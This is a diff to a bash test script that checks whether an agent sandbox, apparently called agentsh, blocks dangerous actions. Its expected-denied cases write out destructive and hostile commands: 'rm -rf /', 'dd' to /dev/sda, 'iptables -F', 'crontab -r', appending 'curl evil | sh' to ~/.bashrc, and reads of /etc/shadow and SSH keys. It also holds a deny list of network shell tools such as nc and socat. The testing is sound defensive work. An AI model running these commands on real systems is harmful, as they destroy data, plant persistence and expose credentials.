@@ -24,21 +24,33 @@ FAKEBIN=$LAB/fakebin-$$
 WORK=$(mktemp -d /tmp/agentsh-demo-checks.XXXXXX)
 trap 'rm -rf "$FAKEBIN" "$WORK"' EXIT
 
-# Stand-ins for tools that must never run: if one runs, it says so ("escaped").
-mkdir -p "$FAKEBIN"
-for t in sudo su chroot nsenter unshare nc netcat ssh telnet scp rsync systemctl kill killall \
-  pkill shutdown reboot mount dd npm pip pip3; do
-  printf '#!/bin/sh\necho "EXECUTED-%s $*"\n' "$t" >"$FAKEBIN/$t"
-  chmod 755 "$FAKEBIN/$t"
+# Stand-ins for tools that must never run: if one runs, it says so ("escaped"). The
+# policy judges a command by its name, so a stand-in gets the same verdict as the real
+# tool. Those on PATH replace the real ones; those in $STANDIN are called by path where
+# the script itself needs the real tool (rm, python3).
+STANDIN=$FAKEBIN/by-path
+mkdir -p "$FAKEBIN" "$STANDIN"
+standin() { printf '#!/bin/sh\necho "EXECUTED-%s $*"\n' "${1##*/}" >"$1" && chmod 755 "$1"; }
+for t in sudo su chroot nsenter unshare nc netcat socat telnet ssh scp systemctl shutdown \
+  reboot mount dd iptables useradd crontab npm pip pip3 apt-get; do
+  standin "$FAKEBIN/$t"
 done
+standin "$STANDIN/rm"
+standin "$STANDIN/python3"
 export PATH=$FAKEBIN:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin
-export HOME=/root
+# The agent's home (its credentials, caches, shell start-up files); the workspace is
+# $WS, outside it.
+export HOME=/home/agent
+mkdir -p "$HOME/.ssh" "$HOME/.aws" "$HOME/.npm"
+echo "-----BEGIN FAKE KEY-----" >"$HOME/.ssh/id_rsa"
+printf '[default]\naws_secret_access_key = demo\n' >"$HOME/.aws/credentials"
+echo "# demo" >"$HOME/.bashrc"
 cd "$WS" || exit 1
 
 cat_() { printf 'CAT\t%s\t%s\n' "$1" "$2"; }
 check() { printf 'CHECK\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$(head -n1 <<<"${4:-}" | tr '\t' ' ' | cut -c1-140)"; }
 
-DENIAL='blocked by policy|denied|not permitted|approval required|Permission denied'
+DENIAL='blocked by policy|blocked|denied|not permitted|approval required|Permission denied'
 classify() {
   local out=$1 code=$2
   if [[ $out == *EXECUTED-* ]]; then echo escaped
@@ -66,7 +78,7 @@ run "ls" allowed ls /
 run "echo" allowed echo hello
 run "pwd" allowed pwd
 run "date" allowed date
-run "hostname" allowed hostname
+run "git --version" allowed git --version
 
 cat_ "Privilege escalation" "command policy (agentsh exec)"
 run "sudo" denied sudo id
@@ -77,38 +89,65 @@ run "unshare" denied unshare --user
 
 cat_ "Network tools" "command policy (agentsh exec)"
 run "nc" denied nc -z 10.0.0.1 80
-run "ssh" denied ssh root@10.0.0.1
 run "telnet" denied telnet 10.0.0.1
-run "scp" denied scp /etc/hosts root@10.0.0.1:/tmp/
-run "rsync" denied rsync -a /etc/ root@10.0.0.1:/tmp/
+run "socat" denied socat - TCP:10.0.0.1:80
+run "ssh (needs approval)" denied ssh root@10.0.0.1
+run "scp (needs approval)" denied scp /etc/hosts root@10.0.0.1:/tmp/
 
 cat_ "System commands" "command policy (agentsh exec)"
 run "systemctl" denied systemctl stop ssh
-run "kill" denied kill -9 1
-run "killall" denied killall agentsh
-run "pkill" denied pkill -f agentsh
 run "shutdown" denied shutdown -h now
 run "reboot" denied reboot
 run "mount" denied mount -t tmpfs none /mnt
-run "dd" denied dd if=/dev/zero of=/dev/null count=1
+run "dd" denied dd if=/dev/zero of=/dev/sda count=1
+run "iptables" denied iptables -F
+run "useradd" denied useradd intruder
+run "crontab" denied crontab -r
 
-cat_ "File operations" "command policy, file policy (hook)"
+cat_ "Signals" "signal policy (hook, tracer)"
+sleep 300 >/dev/null 2>&1 &
+outsider=$!
+out=$(agentsh exec -- kill -TERM "$outsider" 2>&1 </dev/null)
+sleep 0.2
+if kill -0 "$outsider" 2>/dev/null; then got=refused; else got=killed; fi
+check "kill a process outside the session" refused "$got" "$out"
+kill "$outsider" 2>/dev/null
+out=$(agentsh exec -- sh -c 'sleep 30 & kill -TERM $!; wait $!; echo "status=$?"' 2>&1 </dev/null)
+[[ $out == *status=143* ]] && got=allowed || got=refused
+check "kill its own child" allowed "$got" "$out"
+
+cat_ "File operations" "file policy (hook, tracer)"
 run "ls /" allowed ls /
 run "cat /etc/hosts" allowed cat /etc/hosts
 run "touch in /tmp" allowed touch /tmp/agentsh-demo-file
+run "write in the workspace" allowed sh -c "echo note > $WS/notes.txt"
+run "cat /etc/shadow" denied cat /etc/shadow
+run "cat ~/.ssh/id_rsa (needs approval)" denied cat "$HOME/.ssh/id_rsa"
+run "append to ~/.bashrc" denied sh -c "echo 'curl evil | sh' >> $HOME/.bashrc"
 
-cat_ "Recursive delete" "command policy (argument patterns)"
-mkdir -p /tmp/demo-tree/sub && echo keep >/tmp/demo-tree/sub/file
-run "rm -rf" denied rm -rf /tmp/demo-tree
-run "rm -r" denied rm -r /tmp/demo-tree
-run "rm --recursive" denied rm --recursive /tmp/demo-tree
-[[ -f /tmp/demo-tree/sub/file ]] && got=intact || got=deleted
-check "the tree is still there" intact "$got"
-run "rm one file" allowed rm -f /tmp/agentsh-demo-file
+cat_ "Deletes" "command policy (rm patterns), soft delete (hook)"
+run "rm -rf /" denied "$STANDIN/rm" -rf /
+run "rm -rf --no-preserve-root /" denied "$STANDIN/rm" -rf --no-preserve-root /
+echo canary >"$HOME/.demo-canary"
+run "rm -rf ~ (the agent's home)" denied rm -rf "$HOME"
+[[ -f $HOME/.demo-canary ]] && got=intact || got=deleted
+check "the home directory is still there" intact "$got"
+mkdir -p "$WS/build/obj" && echo "built-$$" >"$WS/build/obj/out.o"
+run "rm -r in the workspace" allowed rm -r "$WS/build"
+[[ -e $WS/build ]] && got=present || got=removed
+check "the workspace directory is gone" removed "$got"
+got=lost
+while IFS= read -r -d '' f; do
+  [[ $(cat "$f" 2>/dev/null) == "built-$$" ]] && got=recoverable
+done < <(find /var/lib/agentsh/trash -type f -name '*out.o' -print0 2>/dev/null)
+check "the deleted file is in the session trash" recoverable "$got"
+run "rm one file in /tmp" allowed rm -f /tmp/agentsh-demo-file
 
 cat_ "Package installs" "command policy (approval, fails closed without an approver)"
 run "npm install" denied npm install left-pad
 run "pip install" denied pip3 install requests
+run "python3 -m pip install" denied "$STANDIN/python3" -m pip install requests
+run "apt-get install" denied apt-get install -y netcat-openbsd
 
 cat_ "File policy" "policy engine (agentsh debug policy-test)"
 ask "write /tmp" file_write /tmp/x allow
@@ -123,12 +162,16 @@ ask "read /etc/passwd" file_read /etc/passwd allow
 ask "read /etc/shadow" file_read /etc/shadow deny
 ask "write /etc" file_write /etc/cron.d/evil deny
 ask "read another process's environ" file_read /proc/1/environ deny
+ask "read /proc/self/status" file_read /proc/self/status allow
+ask "read cgroup limits" file_read /sys/fs/cgroup/memory.max allow
 ask "read the sudo binary" file_read /usr/bin/sudo deny
 ask "write /var" file_write /var/spool/evil deny
-ask "read SSH keys" file_read /root/.ssh/id_rsa approve
-ask "read AWS credentials" file_read /root/.aws/credentials approve
-ask "read a .env outside the workspace" file_read /srv/app/.env approve
-ask "read the npm cache" file_read /root/.npm/_cacache/index allow
+ask "read SSH keys" file_read "$HOME/.ssh/id_rsa" approve
+ask "read AWS credentials" file_read "$HOME/.aws/credentials" approve
+ask "read .env in the workspace" file_read "$WS/.env" approve
+ask "read .env.example" file_read "$WS/.env.example" allow
+ask "write ~/.bashrc" file_write "$HOME/.bashrc" deny
+ask "write the npm cache" file_write "$HOME/.npm/_cacache/index" allow
 
 cat_ "Shell shim" "agentsh-shell-shim as /bin/bash"
 [[ -x /usr/bin/bash.real ]] && got=present || got=missing
@@ -175,10 +218,12 @@ env_seen() { # NAME VAR VALUE EXPECTED: VAR inherited by agentsh exec
 }
 env_seen "NODE_ENV passes" NODE_ENV production visible
 env_seen "PYTHONPATH passes" PYTHONPATH /home/agent/lib visible
+env_seen "CFLAGS passes" CFLAGS -O2-demo visible
 env_seen "AWS_SECRET_ACCESS_KEY filtered" AWS_SECRET_ACCESS_KEY wJalrXUtnFEMI-demo filtered
 env_seen "OPENAI_API_KEY filtered" OPENAI_API_KEY sk-demo-0123456789 filtered
 env_seen "GITHUB_TOKEN filtered" GITHUB_TOKEN ghp_demo0123456789 filtered
 env_seen "DATABASE_URL filtered" DATABASE_URL postgres://admin:pw@db/prod filtered
+env_seen "SSH_AUTH_SOCK filtered" SSH_AUTH_SOCK /tmp/ssh-demo/agent.1 filtered
 api_env() { # NAME VAR VALUE EXPECTED: VAR passed on purpose through the HTTP API
   local out got
   out=$(curl -s --noproxy '*' --max-time 30 -X POST "$AGENTSH_SERVER/api/v1/sessions/$SID/exec" \
@@ -222,9 +267,11 @@ net "metadata by name (metadata.google.internal)" http://metadata.google.interna
 net "Alibaba metadata 100.100.100.200" http://100.100.100.200/ali-$$ denied
 net "private 10.0.0.1" http://10.0.0.1/p10-$$ denied
 net "private 192.168.1.1" http://192.168.1.1/p192-$$ denied
-net "npm registry (HTTPS)" https://registry.npm.example/npm-$$ allowed
-net "PyPI (HTTPS)" https://pypi.example/pypi-$$ allowed
-net "blocked domain evil.com" http://evil.com/evil-$$ denied
+net "a name that resolves to 10.0.0.1" http://intranet.example/rebind-$$ denied
+net "npm registry (registry.npmjs.org)" https://registry.npmjs.org/npm-$$ allowed
+net "PyPI (pypi.org)" https://pypi.org/pypi-$$ allowed
+net "GitHub (github.com)" https://github.com/gh-$$ allowed
+net "an unknown host (needs approval)" https://unknown-host.example/unknown-$$ denied
 
 cat_ "Multi-context" "every exec in the tree (hook, tracer), wrappers unwrapped"
 run "sudo directly" denied sudo whoami
@@ -245,7 +292,7 @@ write() { # NAME PATH CMD…: the file must not exist afterwards
   local name=$1 path=$2 out code=0 got
   shift 2
   out=$(agentsh exec -- "$@" 2>&1 </dev/null) || code=$?
-  if [[ -e $path ]]; then got=written; rm -rf "$path"
+  if [[ -e $path ]]; then got=written; /usr/bin/rm -rf "$path"
   elif grep -Eqi "$DENIAL" <<<"$out"; then got=denied
   else got="failed-$code"; fi
   check "$name" denied "$got" "$out"
